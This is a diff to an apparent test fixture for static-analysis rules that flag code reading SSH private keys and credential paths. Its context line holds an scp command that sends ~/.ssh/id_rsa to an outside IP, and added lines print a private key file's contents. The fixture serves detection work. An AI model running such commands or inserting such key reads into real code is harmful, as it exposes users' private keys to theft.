@@ -43,3 +43,17 @@ subprocess.run(["scp", os.path.expanduser("~/.ssh/id_rsa"), "203.0.113.9:/tmp/"]
 loaded = paramiko.RSAKey.from_private_key_file(os.path.expanduser("~/.ssh/id_rsa"))
 client.connect("build.internal", pkey=loaded)
 loaded.write_private_key_file("/tmp/cache/k")
+
+# a tunnel's login key (sshtunnel's ssh_pkey=), and the path only shown in a hint
+from sshtunnel import SSHTunnelForwarder
+
+# ok: sensitive-credential-path
+# ruleid: environment-read
+_bastion_key = Path(os.environ.get("BASTION_KEY", "~/.ssh/id_ed25519")).expanduser()
+_tunnel = SSHTunnelForwarder(("bastion.example.net", 22), ssh_username="ops", ssh_pkey=str(_bastion_key),
+                             remote_bind_address=("db.internal", 5432))
+# ok: sensitive-credential-path
+print("no keys loaded; add yours with: ssh-add ~/.ssh/id_ed25519")
+# the key's text printed is a read
+# ruleid: sensitive-credential-path
+print(open("/home/ops/.ssh/id_rsa").read())
